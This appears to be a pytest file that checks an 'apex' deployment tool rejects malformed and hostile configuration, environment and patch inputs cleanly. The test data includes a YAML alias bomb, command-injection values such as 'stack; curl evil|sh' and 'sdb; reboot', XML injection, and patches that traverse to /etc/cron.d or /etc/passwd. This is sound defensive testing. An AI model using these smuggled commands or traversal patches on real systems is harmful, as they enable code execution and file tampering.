"""Malformed and hostile inputs through the real `apex` command: each ends with exit 2 (1 for a
patch) and one message naming the file, the key and what is allowed — never a traceback, never
exit 3, never a secret, within seconds. The YAML bomb also runs under a memory cap."""

from __future__ import annotations

import contextlib
import os
import resource
import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import yaml

from conftest import REPO, free_port, need
from fake_gerrit import git_patch

SECRET = "hunter2-s3cret"
DEPLOY_OK = {"global_params": {"ha_enabled": False}, "deploy_options": {"os_version": "master"}}
NETWORK_OK = yaml.safe_load((REPO / "config" / "network" / "network_settings.yaml").read_text())
INVENTORY_OK = yaml.safe_load((REPO / "config" / "inventory" / "virtual.yaml").read_text())
# Billion laughs: nine levels of ten aliases (1e9 strings expanded by a plain safe_load).
BOMB = "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{c}: &{c} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]\n" for p, c in zip("abcdefgh", "bcdefghi"))
CID = "I" + "a" * 40


def dump(data: object) -> str:
    return yaml.safe_dump(data, sort_keys=False)


def edit(base: dict, path: str, value: object) -> str:
    """``base`` with the dotted ``path`` set to ``value`` (``...=DELETE`` removes it), as YAML."""
    data = yaml.safe_load(yaml.safe_dump(base))
    *parents, leaf = path.split(".")
    node = data
    for part in parents:
        node = node[part]
    if value == "DELETE":
        del node[leaf]
    else:
        node[leaf] = value
    return dump(data)


def patch_with(old: str, new: str) -> str:
    return git_patch(CID, {"nova/api.py": ("a\n", "b\n")}).replace(old, new)


@dataclass
class Case:
    """``file`` is written (bytes or text; a callable makes special files) and handed in as ``key``."""

    key: str  # deploy | network | inventory | config | project | env | patch
    content: object
    expect: tuple[str, ...]
    env: dict[str, str] = field(default_factory=dict)


CASES = {
    # -- deploy settings ----------------------------------------------------------------------
    "deploy-wrong-type": Case("deploy", edit(DEPLOY_OK, "global_params.ha_enabled", "maybe"),
                              ("global_params.ha_enabled: 'maybe'", "valid boolean")),
    "deploy-missing-key": Case("deploy", edit(DEPLOY_OK, "global_params.ha_enabled", "DELETE"),
                               ("global_params.ha_enabled: required key is missing",)),
    "deploy-unknown-key": Case("deploy", edit(DEPLOY_OK, "global_params.ha_enabeld", True),
                               ("global_params.ha_enabeld: unknown key (allowed: ha_enabled",)),
    "deploy-unknown-version": Case("deploy", edit(DEPLOY_OK, "deploy_options.os_version", "zed"),
                                   ("deploy_options.os_version: 'zed'", "'queens'")),
    "deploy-section-not-mapping": Case("deploy", edit(DEPLOY_OK, "deploy_options", [1, 2]),
                                       ("deploy_options: [1, 2]: expected a mapping",)),
    "deploy-top-level-list": Case("deploy", "- 1\n- 2\n", ("(top level): [1, 2]: expected a mapping",)),
    "deploy-empty": Case("deploy", "", ("(top level): None: expected a mapping",)),
    "deploy-duplicate-key": Case("deploy", "global_params:\n  ha_enabled: false\ndeploy_options:\n  ceph: true\n"
                                           "  ceph: false\n",
                                 ("duplicate key 'ceph' (first on line 4, again on line 5)",)),
    "deploy-yaml-bomb": Case("deploy", BOMB, ("alias *a found: aliases are not allowed",)),
    "deploy-huge": Case("deploy", "# padding\n" * 600_000, ("more than the 4 MiB",)),
    "deploy-binary": Case("deploy", b"\x7fELF\x02\x01\x01\0\0\0", ("a binary file (NUL byte at offset 7)",)),
    "deploy-not-utf8": Case("deploy", "global_params:\n  ha_enabled: false\n# caf\xe9\n".encode("latin-1"),
                            ("line 3: not UTF-8 (byte 0xe9",)),
    "deploy-directory": Case("deploy", "DIRECTORY", ("is a directory",)),
    "deploy-symlink-loop": Case("deploy", "SYMLINK_LOOP", ("a loop of symbolic links",)),
    "deploy-device": Case("deploy", "/dev/zero", ("not a regular file",)),
    "deploy-fifo": Case("deploy", "FIFO", ("not a regular file",)),
    "deploy-missing-file": Case("deploy", "MISSING", ("no such file",)),
    "deploy-nested-too-deep": Case("deploy", "a: " + "[" * 500 + "]" * 500 + "\n", ("nested more than 64 levels",)),
    "deploy-bad-yaml": Case("deploy", "global_params: {ha_enabled: false\n", ("not valid YAML", "line 2")),
    "deploy-bad-change-id": Case("deploy", edit(DEPLOY_OK, "global_params.patches",
                                                {"overcloud": [{"change-id": "12345", "project": "openstack/nova"}]}),
                                 ("global_params.patches.overcloud.0.change-id: '12345'", "40 lowercase hex")),
    "deploy-project-injects-a-line": Case("deploy", edit(DEPLOY_OK, "global_params.patches", {"overcloud": [
        {"change-id": CID, "project": "openstack/nova\nRUN curl evil|sh"}]}),
        ("global_params.patches.overcloud.0.project: 'openstack/nova\\nRUN curl evil|sh'", "pattern")),
    "deploy-bad-ceph-device": Case("deploy", edit(DEPLOY_OK, "deploy_options.ceph_device", "sdb; reboot"),
                                   ("deploy_options.ceph_device: 'sdb; reboot'", "pattern")),
    # -- network settings ---------------------------------------------------------------------
    "network-bad-address": Case("network", edit(NETWORK_OK, "networks.admin.installer_vm.ip", "192.0.2.300"),
                                ("networks.admin.installer_vm.ip: '192.0.2.300'", "IPv4")),
    "network-range-not-a-list": Case("network", edit(NETWORK_OK, "networks.admin.dhcp_range", "192.0.2.2"),
                                     ("networks.admin.dhcp_range: '192.0.2.2'", "two addresses")),
    "network-bad-cidr": Case("network", edit(NETWORK_OK, "networks.admin.cidr", "192.0.2.0/33"),
                             ("networks.admin.cidr: '192.0.2.0/33'",)),
    "network-unknown-key": Case("network", edit(NETWORK_OK, "networks.admin.gatway", "192.0.2.1"),
                                ("networks.admin.gatway: unknown key (allowed:",)),
    # -- inventory (secrets never shown) --------------------------------------------------------
    "inventory-secret-wrong-type": Case("inventory", edit(INVENTORY_OK, "nodes.control0.ipmi_pass", [SECRET]),
                                        ("nodes.control0.ipmi_pass: '********' (hidden)",)),
    "inventory-bad-mac": Case("inventory", edit(INVENTORY_OK, "nodes.control0.mac_address", "52:54:00"),
                              ("nodes.control0.mac_address: '52:54:00'",)),
    "inventory-no-nodes": Case("inventory", "nodes:\n", ("nodes",)),
    # -- config files (-f, ./apex.yaml) and the environment -----------------------------------------
    "config-unknown-key": Case("config", "registry:\n  adress: 127.0.0.1:5000\n",
                               ("registry.adress: unknown key (allowed: registry.address",)),
    "config-wrong-type": Case("config", "jobs: many\n", ("jobs: 'many'", "valid integer")),
    "config-secret-wrong-type": Case("config", f"registry:\n  password: [{SECRET}]\n",
                                     ("registry.password: '********' (hidden)",)),
    "config-long-value-cut": Case("config", f"builder: {'x' * 5000}\n", ("builder: 'xxxxx", "…", "'docker'")),
    "config-user-into-root-script": Case("config", "undercloud:\n  user: 'stack; curl evil|sh'\n",
                                         ("undercloud.user: 'stack; curl evil|sh': allowed: a login name",)),
    "config-python-path-newline": Case("config", 'patching:\n  python_path: "/usr/lib\\nRUN curl evil"\n',
                                       ("patching.python_path: '/usr/lib\\nRUN curl evil': allowed: empty, or an "
                                        "absolute path",)),
    "config-pool-path-into-xml": Case("config", "undercloud:\n  pool_path: \"/var/x'/><evil/>\"\n",
                                      ("undercloud.pool_path:", "allowed: an absolute path")),
    "config-control-character": Case("config", 'upstream:\n  tag: "a\\x1b[2J"\n',
                                     ("upstream.tag:", "control character \\x1b")),
    "config-section-not-mapping": Case("config", "registry: 127.0.0.1:5000\n",
                                       ("registry: '127.0.0.1:5000' is not a mapping",)),
    "config-python-file": Case("config", "PYTHON", ("a .py config file is never executed",)),
    "config-yaml-bomb": Case("config", BOMB.replace("a:", "jobs:", 1), ("aliases are not allowed",)),
    "project-duplicate-key": Case("project", "jobs: 2\njobs: 3\n", ("apex.yaml: line 2", "duplicate key 'jobs'")),
    "project-directory": Case("project", "DIRECTORY", ("apex.yaml: is a directory",)),
    "project-not-utf8": Case("project", b"jobs: 2 # \xff\n", ("apex.yaml: line 1: not UTF-8",)),
    "env-not-a-number": Case("env", "", ("environment APEX_JOBS: jobs: 'lots' is not a number",),
                             {"APEX_JOBS": "lots"}),
    "env-not-a-boolean": Case("env", "", ("environment APEX_REGISTRY_INSECURE: registry.insecure: 'maybe' is not a "
                                          "boolean", "use one of 1/true/yes/on"), {"APEX_REGISTRY_INSECURE": "maybe"}),
    # -- patches (exit 1: the patch-containers target refuses them) ----------------------------------
    "patch-climbs-out": Case("patch", patch_with("+++ b/nova/api.py", "+++ b/../../etc/cron.d/x"),
                             ("path 'b/../../etc/cron.d/x' climbs out with ..",)),
    "patch-absolute-path": Case("patch", patch_with("--- a/nova/api.py", "--- /etc/passwd"),
                                ("path '/etc/passwd' is absolute",)),
    "patch-rename-out": Case("patch", patch_with("--- a/nova/api.py", "rename from nova/api.py\nrename to ../x\n"
                                                                    "--- a/nova/api.py"),
                             ("path '../x' climbs out",)),
    "patch-not-a-diff": Case("patch", "just some text\n", ("not a git-style patch",)),
    "patch-cut-short": Case("patch", patch_with("+b\n", ""), ("hunk cut short",)),
}


def make_input(tmp_path: Path, content: object, name: str) -> Path:
    path = tmp_path / name
    if content == "DIRECTORY":
        path.mkdir()
    elif content == "SYMLINK_LOOP":
        path.symlink_to(tmp_path / "loop-b")
        (tmp_path / "loop-b").symlink_to(path)
    elif content == "FIFO":
        os.mkfifo(path)
    elif content == "MISSING":
        pass
    elif content == "/dev/zero":
        return Path("/dev/zero")
    elif isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(str(content))
    return path


def apex(args: list[str], env: dict[str, str], cwd: Path, limit_memory: int = 0,
         timeout: float = 60) -> subprocess.CompletedProcess[str]:
    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (limit_memory, limit_memory))

    return subprocess.run([sys.executable, "-m", "apex_tools", *args], capture_output=True, text=True, cwd=cwd,
                          env=env, timeout=timeout, preexec_fn=cap if limit_memory else None)


def base_env(tmp_path: Path) -> dict[str, str]:
    empty = tmp_path / "no-patches.yaml"
    empty.write_text("patches: {}\n")
    return {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(REPO), "HOME": str(tmp_path / "home"),
            "APEX_WORK_DIR": str(tmp_path / "work"), "APEX_IMAGE_DIR": str(tmp_path / "images"),
            "APEX_PATCHES_FILE": str(empty), "APEX_NO_FETCH": "1",
            "APEX_GERRIT_URL": f"http://127.0.0.1:{free_port()}", "APEX_REGISTRY_ADDRESS": f"127.0.0.1:{free_port()}"}


def run_case(tmp_path: Path, case: Case, limit_memory: int = 0,
             work_dir: Path | None = None) -> tuple[subprocess.CompletedProcess[str], str]:
    tmp_path.mkdir(parents=True, exist_ok=True)
    env = base_env(tmp_path) | case.env
    if work_dir is not None:
        env["APEX_WORK_DIR"] = str(work_dir)
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    args = ["deploy", "--dry-run"]
    named = ""
    if case.key in ("deploy", "network", "inventory"):
        path = make_input(tmp_path, case.content, f"{case.key}.yaml")
        env[{"deploy": "APEX_DEPLOY_SETTINGS", "network": "APEX_NETWORK_SETTINGS",
             "inventory": "APEX_INVENTORY_FILE"}[case.key]] = str(path)
        named = str(path)
    elif case.key == "config":
        path = make_input(tmp_path, case.content if case.content != "PYTHON" else "import os\n",
                          "site.py" if case.content == "PYTHON" else "site.yaml")
        args = ["-f", str(path), "config"]
        named = str(path.name)
    elif case.key == "project":
        named = str(make_input(cwd, case.content, "apex.yaml"))
        args = ["config"]
    elif case.key == "env":
        args = ["config"]
    elif case.key == "patch":
        patch = make_input(tmp_path, case.content, "fix.patch")
        listing = tmp_path / "local.yaml"
        listing.write_text(dump({"overcloud": [{"path": str(patch), "project": "openstack/nova"}]}))
        env["APEX_PATCHING_LOCAL_PATCHES"] = str(listing)
        args = ["patch-containers"]
        named = "fix.patch"
    return apex(args, env, cwd, limit_memory), named


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_malformed_input_exits_2_naming_file_key_and_what_is_allowed(tmp_path, case):
    started = time.monotonic()
    result, named = run_case(tmp_path, case)
    elapsed = time.monotonic() - started
    assert result.returncode == (1 if case.key == "patch" else 2), result.stderr
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    assert named in result.stderr
    for fragment in case.expect:
        assert fragment in result.stderr
    assert SECRET not in result.stdout + result.stderr
    assert elapsed < 20, f"took {elapsed:.1f}s"


def test_there_are_at_least_35_malformed_inputs():
    assert len(CASES) >= 35


def test_a_yaml_bomb_under_a_512_mib_memory_cap_ends_in_seconds(tmp_path):
    # A plain safe_load of BOMB would build 10^9 list items (gigabytes, minutes): refused at the first alias.
    limit = 512 << 20
    for where in ("deploy", "config"):
        started = time.monotonic()
        result, _ = run_case(tmp_path / where, CASES[f"{where}-yaml-bomb"], limit_memory=limit)
        assert result.returncode == 2, result.stderr
        assert "aliases are not allowed" in result.stderr
        assert time.monotonic() - started < 10


def test_a_full_disk_is_exit_1_naming_the_path_not_a_bug(tmp_path):
    full = tmp_path / "full"
    full.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(full)], capture_output=True)
    need(mounted.returncode == 0, f"mounting a small tmpfs (root): {mounted.stderr.decode().strip()}")
    try:
        fd = os.open(full / "filler", os.O_WRONLY | os.O_CREAT)
        with contextlib.suppress(OSError):
            while True:
                os.write(fd, b"\0" * 4096)
        os.close(fd)
        case = Case("patch", git_patch(CID, {"nova/api.py": ("a\n", "b\n")}), ())
        env_root = tmp_path / "run"
        env_root.mkdir()
        result, _ = run_case(env_root, case, work_dir=full / "work")
    finally:
        subprocess.run(["umount", str(full)], check=True)
    assert result.returncode == 1, result.stderr
    assert f"{full / 'work'}" in result.stderr and "No space left on device" in result.stderr
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    assert "Logging error" not in result.stderr
